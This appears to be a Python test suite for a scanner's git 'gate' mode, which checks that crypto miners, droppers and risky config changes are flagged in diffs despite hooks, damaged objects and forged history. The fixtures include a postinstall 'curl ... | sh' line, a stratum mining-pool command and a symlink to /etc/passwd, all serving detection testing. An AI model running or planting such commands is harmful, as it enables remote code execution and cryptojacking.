"""The gate: real git repositories, real lockfiles, packages from a server on loopback."""
import hashlib
import json
import os
import pathlib
import subprocess
import time
import zlib
from typing import Dict, List, Optional, Sequence

import git_packs
import images
import package_files
import peers
from harness import CLEAN, FOUND, INCOMPLETE, NO_VERDICT, Case, Outcome, Report
from images import rogue
from package_files import MINER, NpmPages, sri


class Repository:
    """A git repository of its own, without the configuration of whoever runs the tests."""

    def __init__(self, world: object, files: Dict[str, bytes]) -> None:
        self.world, self.path = world, world.folder("repository")
        self.git("init", "-q", "-b", "main")
        self.write(files)
        self.commit("base")

    def git(self, *arguments: str) -> str:
        environment = {**self.world.environment(), "GIT_CONFIG_NOSYSTEM": "1",
                       "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@team.example",
                       "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@team.example"}
        done = subprocess.run(["git", *arguments], cwd=self.path, env=environment, check=True,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        return done.stdout.strip()

    def write(self, files: Dict[str, Optional[bytes]]) -> None:
        for name, data in files.items():
            if data is None:
                (self.path / name).unlink()
        images.write_files(self.path, {n: d for n, d in files.items() if d is not None})

    def commit(self, message: str) -> str:
        self.git("add", "-A")
        self.git("commit", "-q", "--allow-empty", "-m", message)
        return self.git("rev-parse", "HEAD")


def lockfile(packages: Dict[str, dict]) -> bytes:
    """package-lock.json, version 3, as npm indents it."""
    entries = {"": {"name": "app", "version": "1.0.0"}}
    entries.update({f"node_modules/{name}": entry for name, entry in packages.items()})
    return json.dumps({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
                       "packages": entries}, indent=2).encode() + b"\n"


def line_of(text: bytes, word: str) -> int:
    lines = text.decode().splitlines()
    return next(i for i, line in enumerate(lines, 1) if word in line)


class Gate(Case):
    def repository(self, files: Optional[Dict[str, bytes]] = None) -> Repository:
        return Repository(self.world, files or {"README.md": b"An application.\n"})

    def gate(self, status: int, repository: Repository, *arguments: object, base: str = "main",
             **environment: Optional[str]) -> Report:
        options = ["--base", base] if base else []
        return self.scan(status, "gate", *options, *arguments, cwd=repository.path,
                         environment=environment or None)

    def rules(self, report: Report, path: str = "") -> List[str]:
        return sorted(f["rule"] for f in report.findings if path in ("", f["path"]))


class Trees(Gate):
    def test_nothing_changed_is_clean(self) -> None:
        report = self.gate(CLEAN, self.repository())
        self.assertEqual(report.findings, [])
        self.assertEqual(report.json["review"]["files_changed"], 0)

    def test_only_what_changed_is_scanned(self) -> None:
        repository = self.repository({"old/worker": rogue.fake_miner(), "a": b"1\n"})
        repository.write({"a": b"2\n"})
        report = self.gate(CLEAN, repository)
        self.assertEqual((report.findings, report.json["review"]["files_changed"]), ([], 1))

    def test_a_miner_in_the_working_tree_the_index_and_a_commit(self) -> None:
        repository = self.repository()
        repository.write({"tools/worker": rogue.fake_miner()})
        self.assertTrue(self.gate(FOUND, repository).at("tools/worker", "error"))
        self.assertEqual(self.gate(CLEAN, repository, "--staged").findings, [])
        repository.git("add", "-A")
        self.assertTrue(self.gate(FOUND, repository, "--staged").at("tools/worker", "error"))
        head = repository.commit("more")
        repository.git("reset", "-q", "--hard", "HEAD~1")
        self.assertEqual(self.gate(CLEAN, repository).findings, [])
        report = self.gate(FOUND, repository, "--head", head)
        self.assertTrue(report.at("tools/worker", "error"))
        self.assertIn("MSN6020", self.rules(report, "tools/worker"))

    def odd_tree(self, repository: Repository, *entries: bytes) -> str:
        """A commit of these raw entries and those of HEAD."""
        raw = subprocess.run(["git", "cat-file", "tree", "HEAD^{tree}"], cwd=repository.path,
                             check=True, stdout=subprocess.PIPE).stdout
        tree = subprocess.run(["git", "hash-object", "-t", "tree", "-w", "--literally", "--stdin"],
                              cwd=repository.path, check=True, stdout=subprocess.PIPE,
                              input=raw + b"".join(entries)).stdout.decode().strip()
        return repository.git("commit-tree", "-p", "HEAD", "-m", "odd", tree)

    def test_a_path_that_a_tree_has_twice_is_no_verdict(self) -> None:
        repository = self.repository()
        (repository.path / "worker").write_bytes(rogue.fake_miner())
        blobs = [bytes.fromhex(repository.git("hash-object", "-w", name))
                 for name in ("README.md", "worker")]
        head = self.odd_tree(repository, *(b"100644 z\0" + blob for blob in blobs))
        outcome = self.run_it("gate", "--base", "main", "--head", head, cwd=repository.path)
        self.assert_one_sentence(outcome, NO_VERDICT, "'z' twice", "git fsck")

    def test_a_mode_that_git_takes_for_a_submodule_is_no_verdict(self) -> None:
        repository = self.repository()
        commit = bytes.fromhex(repository.git("rev-parse", "HEAD"))
        for mode in (b"1", b"644"):
            head = self.odd_tree(repository, mode + b" z\0" + commit)
            outcome = self.run_it("gate", "--base", "main", "--head", head, cwd=repository.path)
            self.assert_one_sentence(outcome, NO_VERDICT, "'z' with a mode", "git fsck")

    def test_a_folder_that_cannot_be_read_is_a_gap(self) -> None:
        """Too deep for a path: that hinders root as well.  An ignored one hinders nobody."""
        repository = self.repository({".gitignore": b"ignored/\n", "a": b"1\n"})
        for top, status in (("ignored", CLEAN), ("deep", INCOMPLETE)):
            folder = os.open(repository.path, os.O_RDONLY)
            for name in [top, *["d" * 90] * 60]:
                os.mkdir(name, dir_fd=folder)
                below = os.open(name, os.O_RDONLY, dir_fd=folder)
                os.close(folder)
                folder = below
            os.close(folder)
            report = self.gate(status, repository)
            self.assertEqual([gap["trail"][-1]["name"].split("/")[0] for gap in report.gaps],
                             [top] if status == INCOMPLETE else [])

    def test_what_is_not_committed_in_a_submodule_is_a_gap(self) -> None:
        other, repository = self.repository({"b": b"1\n"}), self.repository()
        repository.git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add",
                       str(other.path), "sub")
        repository.commit("with a submodule")
        self.gate(CLEAN, repository)
        (repository.path / "sub" / "worker").write_bytes(rogue.fake_miner())
        report = self.gate(INCOMPLETE, repository)
        self.assertEqual([gap["trail"][-1]["name"] for gap in report.gaps], ["sub"])

    def test_an_ignored_file_is_no_part_of_the_change(self) -> None:
        repository = self.repository({".gitignore": b"build/\n", "a": b"1\n"})
        repository.write({"build/worker": rogue.fake_miner(), "a": b"2\n"})
        self.assertEqual(self.gate(CLEAN, repository).findings, [])

    def test_removing_a_miner_does_not_fail(self) -> None:
        repository = self.repository({"worker": rogue.fake_miner(), "a": b"1\n"})
        repository.write({"worker": None})
        self.assertEqual(self.gate(CLEAN, repository).findings, [])

    def test_what_was_there_before_does_not_count_and_what_is_new_does(self) -> None:
        script = rogue.dropper_script()
        repository = self.repository({"setup.sh": script})
        repository.write({"setup.sh": script + b"# a comment\n"})
        report = self.gate(CLEAN, repository)
        self.assertTrue(report.findings)
        self.assertEqual({f["suppressed"]["kind"] for f in report.findings if f["level"] == "error"},
                         {"baseline"})
        pool = b"\n./kw -o stratum+tcp://other.example:3333 -u " + rogue.wallet("other").encode()
        repository.write({"setup.sh": script + pool + b" -p x\n"})
        self.gate(FOUND, repository)

    def test_a_branch_is_compared_with_where_it_began(self) -> None:
        repository = self.repository({"a": b"1\n"})
        repository.git("checkout", "-q", "-b", "topic")
        repository.write({"b": b"topic\n"})
        repository.commit("topic")
        repository.git("checkout", "-q", "main")
        repository.write({"worker": rogue.fake_miner()})
        repository.commit("somebody else's")
        repository.git("checkout", "-q", "topic")
        report = self.gate(CLEAN, repository, "--head", "topic")
        self.assertEqual(report.json["review"]["files_changed"], 1)

    def test_changes_are_called_what_they_are(self) -> None:
        repository = self.repository({
            "package.json": b'{"name": "a"}\n', "Dockerfile": b"FROM team.example/node:20\n",
            ".npmrc": b"fund=false\n"})
        repository.write({
            "package.json": b'{\n  "name": "a",\n  "scripts": {\n'
                            b'    "postinstall": "curl -s https://a.example/x | sh"\n  }\n}\n',
            "Dockerfile": b"# moved\nFROM other.example/node:20\n",
            ".npmrc": b"fund=false\nregistry=https://npm.example/\n",
            ".github/workflows/ci.yml": b"on:\n  pull_request_target:\n",
            "site.pth": b"import os\n"})
        report = self.gate(CLEAN, repository)
        self.assertIn("MSN6011", self.rules(report, "package.json"))
        self.assertIn("MSN6030", self.rules(report, "Dockerfile"))
        self.assertIn("MSN6040", self.rules(report, ".npmrc"))
        self.assertIn("MSN6032", self.rules(report, ".github/workflows/ci.yml"))
        self.assertIn("MSN6033", self.rules(report, "site.pth"))
        moved = next(f for f in report.findings if f["rule"] == "MSN6030")
        self.assertEqual(moved["evidence"][0]["line"], 2)
        self.assertIn("was: team.example/node:20", moved["evidence"][0]["excerpt"])

    def test_a_link_a_submodule_and_a_pointer_are_not_silent(self) -> None:
        repository = self.repository()
        other = self.repository()
        (repository.path / "passwd").symlink_to("/etc/passwd")
        repository.write({"model.bin": b"version https://git-lfs.github.com/spec/v1\n"
                                       b"oid sha256:" + b"0" * 64 + b"\nsize 123\n"})
        repository.git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add",
                       str(other.path), "module")
        repository.git("add", "-A")
        report = self.gate(INCOMPLETE, repository, "--staged")
        self.assertIn("MSN6060", self.rules(report, "passwd"))
        self.assertIn("MSN6060", self.rules(report, "module"))
        told = " ".join(gap["detail"] for gap in report.gaps)
        self.assertIn("submodule", told)
        self.assertIn("Git LFS", told)

    def test_hooks_and_filters_of_the_repository_do_not_run(self) -> None:
        repository = self.repository({"a.txt": b"1\n", ".gitattributes": b"*.txt filter=x\n"})
        mark = self.world.folder("mark") / "ran"
        for hook in ("post-checkout", "post-index-change", "pre-commit"):
            path = repository.path / ".git/hooks" / hook
            path.write_text(f"#!/bin/sh\ntouch {mark}\n")
            path.chmod(0o755)
        for name in ("filter.x.clean", "filter.x.smudge", "core.fsmonitor", "diff.external"):
            repository.git("config", name, f"touch {mark}; cat")
        mark.unlink(missing_ok=True)
        images.write_files(repository.path, {"a.txt": b"2\n"})
        self.gate(CLEAN, repository)
        self.assertFalse(mark.exists())


    def test_a_file_of_an_odd_mode_is_scanned(self) -> None:
        repository = self.repository()
        repository.write({"z": rogue.fake_miner()})
        blob = repository.git("hash-object", "-w", "z")
        tree = repository.path / "tree"
        tree.write_bytes(b"100775 z\0" + bytes.fromhex(blob))
        made = repository.git("hash-object", "-t", "tree", "-w", "--literally", "tree")
        head = repository.git("commit-tree", made, "-p", "main", "-m", "odd")
        self.assertTrue(self.gate(FOUND, repository, "--head", head).at("z", "error"))

    def test_a_hook_of_commit_all_sees_the_index_that_is_committed(self) -> None:
        repository = self.repository({"worker": b"#!/bin/sh\n"})
        hook = repository.path / ".git/hooks/pre-commit"
        hook.write_text(f"#!/bin/sh\nexec {self.world.binary} gate --staged -q -o text=/dev/null\n")
        hook.chmod(0o755)
        repository.write({"worker": rogue.fake_miner()})
        with self.assertRaises(subprocess.CalledProcessError):
            repository.git("commit", "-a", "-m", "worker")

    def test_the_first_commit_is_all_new(self) -> None:
        folder = self.world.folder("unborn")
        self.world.tool("git", "init", "-q", folder)
        images.write_files(folder, {"worker": rogue.fake_miner()})
        self.world.tool("git", "add", "-A", cwd=folder)
        self.scan(FOUND, "gate", "--staged", cwd=folder)

    def test_a_file_that_is_no_longer_tracked_is_still_there(self) -> None:
        repository = self.repository({"t": b"1\n"})
        repository.git("rm", "-q", "--cached", "t")
        repository.write({"t": rogue.fake_miner()})
        self.assertTrue(self.gate(FOUND, repository).at("t", "error"))

    def test_another_program_at_the_place_of_a_known_one_is_new(self) -> None:
        repository = self.repository({"worker": rogue.fake_miner()})
        repository.write({"worker": rogue.fake_miner() + b"another"})
        self.gate(FOUND, repository)


class OnDisk(Gate):
    """What a working tree says of itself does not decide what is looked at."""

    def test_flags_of_the_index_hide_no_changed_file(self) -> None:
        for flag in ("--skip-worktree", "--assume-unchanged"):
            with self.subTest(flag):
                repository = self.repository({"tools/worker": b"#!/bin/sh\n"})
                repository.git("update-index", flag, "tools/worker")
                repository.write({"tools/worker": rogue.fake_miner()})
                self.assertTrue(self.gate(FOUND, repository).at("tools/worker", "error"))

    def test_a_time_that_was_put_back_hides_no_changed_file(self) -> None:
        miner = rogue.fake_miner()
        repository = self.repository({"worker": b"x" * len(miner)})
        repository.git("config", "core.trustctime", "false")
        file = repository.path / "worker"
        before = file.stat()
        os.utime(file, ns=(before.st_atime_ns, before.st_mtime_ns - 10**10))
        repository.git("update-index", "--refresh")
        file.write_bytes(miner)
        os.utime(file, ns=(before.st_atime_ns, before.st_mtime_ns - 10**10))
        self.assertTrue(self.gate(FOUND, repository).at("worker", "error"))

    def test_a_list_of_ignored_files_that_the_change_brings_hides_none(self) -> None:
        for ignored in (".gitignore", ".git/info/exclude"):
            with self.subTest(ignored):
                repository = self.repository()
                repository.write({ignored: b"/tools/\n.gitignore\n",
                                  "tools/worker": rogue.fake_miner()})
                self.assertTrue(self.gate(FOUND, repository).at("tools/worker", "error"))

    def test_a_file_that_is_not_checked_out_is_no_change(self) -> None:
        repository = self.repository({"a": b"1\n", "b": b"2\n"})
        repository.git("update-index", "--skip-worktree", "a")
        (repository.path / "a").unlink()
        report = self.gate(CLEAN, repository)
        self.assertEqual(report.json["review"]["files_changed"], 0)


class Places(Gate):
    """What lies outside of the repository and belongs to it, or does not."""

    def test_a_linked_working_tree_and_borrowed_objects_are_read(self) -> None:
        repository = self.repository({"a": b"1\n"})
        linked = self.world.folder("linked") / "tree"
        repository.git("worktree", "add", "-q", "-b", "other", str(linked))
        clone = self.world.folder("clone") / "tree"
        repository.git("clone", "-q", "--shared", str(repository.path), str(clone))
        for tree in (linked, clone):
            self.assertEqual(self.scan(CLEAN, "gate", cwd=tree).json["review"]["files_changed"], 0)
            images.write_files(tree, {"worker": rogue.fake_miner()})
            self.assertTrue(self.scan(FOUND, "gate", cwd=tree).at("worker", "error"))

    def test_reports_are_the_same_without_a_sandbox(self) -> None:
        repository = self.repository({"a": b"1\n", "gone": b"2\n"})
        base = repository.commit("base")
        repository.write({"a": b"3\n", "worker": rogue.fake_miner(), "gone": None})
        repository.commit("head")
        for head in ([], ["--head", "HEAD"], ["--staged"]):
            reports = set()
            for options in ([], ["--no-sandbox"]):
                report = self.gate(FOUND, repository, *head, *options, base=base).json
                report["artifact"].pop("notes")
                reports.add(json.dumps(report))
            self.assertEqual(len(reports), 1, head)

    def test_packed_objects_and_references_are_read(self) -> None:
        repository = self.repository({f"f{i}": b"%d\n" % i for i in range(20)})
        repository.git("gc", "-q")
        repository.write({"f1": rogue.fake_miner()})
        report = self.gate(FOUND, repository)
        self.assertTrue(report.at("f1", "error"))
        self.assertEqual(report.json["review"]["files_changed"], 1)

    def test_configurations_that_others_include_are_no_obstacle(self) -> None:
        # As where a build keeps the password for fetching outside of the clone.
        repository = self.repository({"a": b"1\n"})
        outside = self.world.folder("outside")
        images.write_files(outside, {"included": b"[http]\n\tproxy = none\n"})
        inner = repository.path / "inner"
        repository.git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add",
                       str(self.repository().path), "inner")
        repository.commit("inner")
        for one in (repository.path, inner):
            repository.git("-C", str(one), "config", "include.path", str(outside / "included"))
        self.assertEqual(self.gate(CLEAN, repository).json["review"]["files_changed"], 0)
        repository.write({"a": b"2\n"})
        self.assertEqual(self.gate(CLEAN, repository).json["review"]["files_changed"], 1)

    def test_what_the_owner_never_adds_is_no_part_of_the_change(self) -> None:
        repository = self.repository({"a": b"1\n"})
        home = self.world.folder("home")
        images.write_files(home, {"lists/never": b"*.never\n", "part": b"[core]\n"
                                  b"\texcludesFile = ~/lists/never\n",
                                  ".gitconfig": b"[include]\n\tpath = part\n"})
        repository.write({"worker.never": rogue.fake_miner()})
        self.gate(CLEAN, repository, HOME=str(home))
        self.gate(FOUND, repository)
        # The same, where git looks by itself.
        other = self.world.folder("home")
        images.write_files(other, {".config/git/ignore": b"*.never\n"})
        self.gate(CLEAN, repository, HOME=str(other))

    def test_the_repository_cannot_name_a_list_outside_of_it(self) -> None:
        # What it hides would else depend on a file of somebody else.
        repository = self.repository({"a": b"1\n"})
        outside = self.world.folder("outside")
        images.write_files(outside, {"list": b"worker\n"})
        repository.git("config", "core.excludesFile", str(outside / "list"))
        repository.write({"worker": rogue.fake_miner()})
        self.gate(FOUND, repository)


class Policies(Gate):
    def entry(self, digest: str, path: str, rule: str) -> str:
        return (f"ignore:\n  - rule: {rule}\n    path: {path}\n    sha256: {digest}\n"
                f"    reason: reviewed\n    expires: 2026-12-31\n")

    def ignored(self, report: Report, path: str) -> str:
        return "".join(self.entry(f["digest"], path, f["rule"]).replace("ignore:\n", "")
                       for f in report.at(path) if f["level"] == "error")

    def test_the_change_cannot_ignore_itself(self) -> None:
        day = {"SOURCE_DATE_EPOCH": "1796000000"}  # 2026-11-30
        repository = self.repository()
        repository.write({"worker": rogue.fake_miner()})
        report = self.gate(FOUND, repository, **day)
        policy = ("ignore:\n" + self.ignored(report, "worker")).encode()
        repository.write({".minescan.yaml": policy})
        report = self.gate(FOUND, repository, **day)
        self.assertIn("MSN6050", self.rules(report, ".minescan.yaml"))
        # What stands in the base counts, and so does what the user names.
        repository.git("add", ".minescan.yaml")
        repository.git("commit", "-q", "-m", "policy")
        report = self.gate(CLEAN, repository, base="HEAD", **day)
        self.assertEqual({f["suppressed"]["kind"] for f in report.findings
                          if f["level"] == "error"}, {"ignored"})
        self.gate(FOUND, repository, base="HEAD", SOURCE_DATE_EPOCH="1800000000")
        repository.write({"worker": rogue.fake_miner() + b"another"})
        self.gate(FOUND, repository, base="HEAD", **day)

    def test_a_configuration_in_what_is_scanned_is_never_read(self) -> None:
        tree = images.write_files(self.world.folder("tree"), {"worker": rogue.fake_miner()})
        day = {"SOURCE_DATE_EPOCH": "1796000000"}
        report = self.scan(FOUND, "repo", tree, environment=day)
        policy = self.world.folder("policy") / "p.yaml"
        policy.write_text("ignore:\n" + self.ignored(report, "worker"))
        (tree / ".minescan.yaml").write_bytes(policy.read_bytes())
        self.scan(FOUND, "repo", tree, environment=day)
        self.scan(CLEAN, "repo", tree, "--config", policy, environment=day)

    def test_a_baseline_is_a_report_from_before(self) -> None:
        tree = images.write_files(self.world.folder("tree"), {"worker": rogue.fake_miner()})
        before = self.world.folder("baseline") / "before.json"
        self.run_it("repo", tree, "-o", f"json={before}")
        self.scan(CLEAN, "repo", tree, "--baseline", before)
        images.write_files(tree, {"more": rogue.fake_miner()})
        report = self.scan(FOUND, "repo", tree, "--baseline", before)
        self.assertEqual({f["path"] for f in report.findings if not f.get("suppressed")}, {"more"})

    def test_what_is_wrong_with_a_policy_is_one_sentence(self) -> None:
        repository = self.repository({".minescan.yaml": b"ignore:\n  - rule: MSN1001\n"})
        outcome = self.run_it("gate", cwd=repository.path)
        self.assert_one_sentence(outcome, NO_VERDICT, ".minescan.yaml", ":2:", "path")
        outcome = self.run_it("gate", "--config", "/nonexistent", cwd=repository.path)
        self.assert_one_sentence(outcome, NO_VERDICT, "/nonexistent")
        outcome = self.run_it("repo", ".", "--baseline", "README.md", cwd=repository.path)
        self.assert_one_sentence(outcome, NO_VERDICT, "README.md")


class Damaged(Gate):
    """What git's own files say that is not so: no verdict or a gap, at once, and never clean."""

    def setUp(self) -> None:
        self.repo = self.repository({"a": b"1\n"})
        self.git = self.repo.path / ".git"
        self.base = self.repo.git("rev-parse", "HEAD")

    def topic(self) -> str:
        """A commit with a miner in it; main is checked out."""
        self.repo.git("checkout", "-q", "-b", "topic")
        self.repo.write({"worker": rogue.fake_miner()})
        head = self.repo.commit("topic")
        self.repo.git("checkout", "-q", "main")
        return head

    def loose(self, name: str) -> pathlib.Path:
        return self.git / "objects" / name[:2] / name[2:]

    def replace(self, name: str, data: bytes) -> None:
        path = self.loose(name)
        path.parent.mkdir(exist_ok=True)
        path.unlink(missing_ok=True)
        path.write_bytes(data)

    def refuses(self, *words: str, arguments: Sequence[str] = (), base: str = "main") -> None:
        begin = time.monotonic()
        outcome = self.run_it("gate", "--base", base, *arguments, cwd=self.repo.path)
        self.assert_one_sentence(outcome, NO_VERDICT, *words)
        self.assertLess(time.monotonic() - begin, 30)
        self.assertLess(outcome.peak_bytes, 600 << 20)

    def at_topic(self, pack: git_packs.Pack, blob: str) -> None:
        tree = pack.object("tree", b"100644 z\0" + bytes.fromhex(blob))
        head = pack.object("commit", git_packs.commit(tree, [self.base]))
        pack.write(self.git)
        (self.git / "refs/heads/topic").write_text(head + "\n")

    def test_a_loose_object_that_is_cut_is_named_at_once(self) -> None:
        for name in (self.base, self.repo.git("rev-parse", "HEAD^{tree}")):
            whole = self.loose(name).read_bytes()
            for size in (0, len(whole) // 2, len(whole) - 1):
                self.replace(name, whole[:size])
                self.refuses(name, "cut off", "git fsck")
                self.refuses(name, "cut off", "git fsck", base=self.base[:10])
            self.replace(name, whole)
        self.gate(CLEAN, self.repo)
        self.topic()
        blob = self.repo.git("rev-parse", "topic:worker")
        self.replace(blob, self.loose(blob).read_bytes()[:-10])
        report = self.gate(INCOMPLETE, self.repo, "--head", "topic")
        self.assertIn("cut off", report.gaps[0]["detail"])

    def test_a_loose_object_that_inflates_to_more_than_it_says_takes_no_memory(self) -> None:
        for kind, size in (("commit", 200), ("commit", 4 << 30), ("tree", 200)):
            zeros = zlib.compressobj(9)
            bomb = zeros.compress(b"%s %d\0" % (kind.encode(), size))
            bomb += b"".join(zeros.compress(bytes(1 << 20)) for _ in range(1024)) + zeros.flush()
            name = self.base if kind == "commit" else self.repo.git("rev-parse", "HEAD^{tree}")
            whole = self.loose(name).read_bytes()
            self.replace(name, bomb)
            self.refuses(name, "longer than it says" if size == 200 else "4294967296 bytes")
            self.replace(name, whole)

    def test_an_object_in_the_place_of_another_one_is_not_believed(self) -> None:
        head = self.topic()
        tree, other = (self.repo.git("rev-parse", f"{one}^{{tree}}") for one in ("topic", "main"))
        for name, instead in ((tree, other), (head, self.base)):
            whole = self.loose(name).read_bytes()
            self.replace(name, self.loose(instead).read_bytes())
            self.refuses("hash mismatch", arguments=["--head", "topic"])
            self.replace(name, whole)
        self.gate(FOUND, self.repo, "--head", "topic")

    def test_deltas_of_themselves_end(self) -> None:
        one, two = "ab" * 20, "cd" * 20
        for names in ((one, one), (one, two)):
            pack = git_packs.Pack()
            pack.of_name(names[0], names[1], git_packs.delta(10, b"0123456789"))
            if names[1] != names[0]:
                pack.of_name(names[1], names[0], git_packs.delta(10, b"0123456789"))
            pack.write(self.git)
            (self.git / "refs/heads/topic").write_text(one + "\n")
            self.refuses("of itself", "git fsck", arguments=["--head", "topic"])

    def test_a_long_chain_of_deltas_is_read(self) -> None:
        pack, data = git_packs.Pack(), b"x" * 40
        pack.object("blob", data)
        for i in range(10_000):
            last, data = len(data), b"%040d" % i
            name = git_packs.object_id("blob", data)
            pack.of_last(name, git_packs.delta(last, data))
        self.at_topic(pack, name)
        self.assertEqual(self.gate(CLEAN, self.repo, "--head", "topic").gaps, [])

    def test_sizes_that_a_pack_lies_about_take_no_memory(self) -> None:
        for size in (1 << 20, 900 << 20, 1 << 50):
            pack = git_packs.Pack()
            pack.object("blob", b"x" * 100, "ab" * 20, size)
            self.at_topic(pack, "ab" * 20)
            outcome = self.run_it("gate", "--base", "main", "--head", "topic", cwd=self.repo.path)
            self.assertEqual(outcome.status, INCOMPLETE, outcome.said)
            self.assertLess(outcome.peak_bytes, 600 << 20)

    def test_a_pack_or_its_index_that_is_cut_or_lies(self) -> None:
        self.topic()
        self.repo.git("repack", "-q", "-a", "-d")
        pack = next((self.git / "objects/pack").glob("*.pack"))
        index = pack.with_suffix(".idx")
        whole = {path: path.read_bytes() for path in (pack, index)}

        def damage(path: pathlib.Path, data: bytes, *words: str) -> None:
            path.unlink()
            path.write_bytes(data)
            self.refuses(*words, arguments=["--head", "topic"])
            path.write_bytes(whole[path])

        damage(pack, whole[pack][:14], ".pack")
        damage(index, whole[index][:-30], ".idx", "cut off")
        counts = slice(8, 8 + 1024)
        data = bytearray(whole[index])
        data[counts] = b"\xff\xff\xff\xf0" * 256
        damage(index, bytes(data), ".idx", "cut off")
        data[counts] = b"\0\0\0\5" * 255 + b"\0\0\0\1"
        damage(index, bytes(data), ".idx", "no order")
        count = int.from_bytes(whole[index][8 + 1020:8 + 1024], "big")
        offsets = slice(8 + 1024 + 24 * count, 8 + 1024 + 28 * count)
        for offset in (b"\x7f\xff\xff\xff", b"\xff\xff\xff\xff"):
            data = bytearray(whole[index])
            data[offsets] = offset * count
            damage(index, bytes(data), "not there")
        self.gate(FOUND, self.repo, "--head", "topic")

    def test_what_is_said_about_history_beside_the_objects_is_not_believed(self) -> None:
        head = self.topic()
        self.repo.write({"b": b"2\n"})
        main = self.repo.commit("main went on")
        self.repo.git("-c", "commitGraph.generationVersion=1", "commit-graph", "write",
                      "--reachable")
        graph = self.git / "objects/info/commit-graph"
        data = bytearray(graph.read_bytes())
        graph.unlink()
        chunks = {}
        for i in range(data[6]):
            chunk = data[8 + 12 * i:20 + 12 * i]
            chunks[bytes(chunk[:4])] = int.from_bytes(chunk[4:], "big")
        names, rows = chunks[b"OIDL"], chunks[b"CDAT"]
        order = [bytes(data[names + 20 * i:names + 20 * i + 20]).hex() for i in range(3)]
        none = (0x70000000).to_bytes(4, "big")
        # As if the base came after the head: nothing would have changed.
        for commit, parent, generation in ((main, self.base, 3), (self.base, head, 2),
                                           (head, "", 1)):
            row = rows + 36 * order.index(commit) + 20
            parents = order.index(parent).to_bytes(4, "big") if parent else none
            data[row:row + 16] = parents + none + (generation << 34 | 1700000000).to_bytes(8, "big")
        graph.write_bytes(bytes(data[:-20]) + hashlib.sha1(data[:-20]).digest())
        # Git does believe it.
        self.assertIn(head, self.repo.git("rev-list", "main"))
        self.gate(FOUND, self.repo, "--head", "topic")
        graph.unlink()
        (self.git / "info/grafts").write_text(f"{self.base} {head}\n{head}\n")
        (self.git / "shallow").write_text(f"{head}\n{self.base}\n")
        self.gate(FOUND, self.repo, "--head", "topic")
        (self.git / "info/grafts").unlink()
        (self.git / "shallow").unlink()
        self.repo.git("replace", head, self.base)
        self.gate(FOUND, self.repo, "--head", "topic")

    def test_few_trees_that_name_one_another_too_often_are_no_verdict(self) -> None:
        for leaf in (b"", b"100644 f\0" + bytes.fromhex(self.repo.git("rev-parse", "HEAD:a"))):
            pack = git_packs.Pack()
            tree = pack.object("tree", leaf)
            for _ in range(20):
                names = b"".join(b"40000 %d\0" % i + bytes.fromhex(tree) for i in range(10))
                tree = pack.object("tree", names)
            head = pack.object("commit", git_packs.commit(tree, [self.base]))
            pack.write(self.git)
            (self.git / "refs/heads/topic").write_text(head + "\n")
            self.refuses("more than", "files", arguments=["--head", "topic"])
            self.refuses("more than", "files", base="topic")

    def test_borrowing_in_a_circle_ends(self) -> None:
        self.topic()
        other = self.repository()
        for here, there in ((self.repo, other), (other, self.repo)):
            (here.path / ".git/objects/info/alternates").write_text(
                f"{there.path}/.git/objects\n" * 1000)
        self.gate(FOUND, self.repo, "--head", "topic")

    def test_what_no_repository_can_lack_is_named(self) -> None:
        for name in ("HEAD", "objects", "refs"):
            (self.git / name).rename(self.git / "away")
            self.refuses("damaged", name)
            (self.git / "away").rename(self.git / name)

    def test_extensions_of_git_are_read_or_refused_by_name(self) -> None:
        self.repo.git("config", "core.repositoryFormatVersion", "1")
        for name in ("worktreeConfig", "partialClone", "preciousObjects", "relativeWorktrees"):
            self.repo.git("config", "extensions." + name, "true")
        self.gate(CLEAN, self.repo)
        for name, value, words in (("refStorage", "reftable", ["reftable", "git refs migrate"]),
                                   ("objectFormat", "sha256", ["SHA-1", "minescan diff"]),
                                   ("other", "x", ["'other'", "minescan diff"])):
            before = (self.git / "config").read_text()
            (self.git / "config").write_text(f"{before}[extensions]\n\t{name} = {value}\n")
            self.refuses(*words)
            (self.git / "config").write_text(before)


class BadInput(Gate):
    def test_a_revision_that_is_not_there(self) -> None:
        repository = self.repository()
        outcome = self.run_it("gate", "--base", "origin/nope", cwd=repository.path)
        self.assert_one_sentence(outcome, NO_VERDICT, "origin/nope", "fetch")
        repository.write({"a": b"1\n"})
        repository.commit("second")
        clone = self.world.folder("clone") / "c"
        repository.git("clone", "-q", "--depth=1", f"file://{repository.path}", str(clone))
        outcome = self.run_it("gate", "--base", "HEAD~1", cwd=clone)
        self.assert_one_sentence(outcome, NO_VERDICT, "HEAD~1", "shallow", "fetch")

    def test_an_empty_base_is_no_base(self) -> None:
        outcome = self.run_it("gate", "--base", "", "--head", "HEAD", cwd=self.repository().path)
        self.assert_one_sentence(outcome, NO_VERDICT, "--base")

    def test_a_repository_of_another_user_is_read_where_git_would(self) -> None:
        if os.geteuid() != 0:
            self.skipTest("only root can give files away")
        repository = self.repository()
        for path in [repository.path, *repository.path.rglob("*")]:
            os.chown(path, 12345, 12345)
        home = self.world.folder("home-of-another")
        configuration = home / ".gitconfig"

        def gate() -> Outcome:
            return self.run_it("gate", "--base", "main", cwd=repository.path,
                               environment={"HOME": str(home)})

        self.assert_one_sentence(gate(), NO_VERDICT, "another user", "safe.directory")
        for trusted, status in (("*", CLEAN), (str(repository.path), CLEAN), ("/other", NO_VERDICT)):
            with self.subTest(trusted):
                configuration.write_text(f"[safe]\n\tdirectory = {trusted}\n")
                self.assertEqual(gate().status, status)
        configuration.write_text("[safe]\n\tdirectory = *\n\tdirectory =\n")
        self.assertEqual(gate().status, NO_VERDICT)

    def test_what_is_broken_in_a_repository_is_one_sentence(self) -> None:
        repository = self.repository()
        head = repository.git("rev-parse", "HEAD")
        commit = repository.path / ".git/objects" / head[:2] / head[2:]
        away = commit.with_suffix(".away")
        commit.rename(away)
        self.assert_one_sentence(self.run_it("gate", "--base", "main", cwd=repository.path),
                                 NO_VERDICT, head[:12], "git fsck")
        away.rename(commit)
        repository.git("update-index", "--split-index")
        self.assert_one_sentence(self.run_it("gate", "--base", "main", cwd=repository.path),
                                 NO_VERDICT, "index", "--no-split-index")
        repository.git("update-index", "--no-split-index")
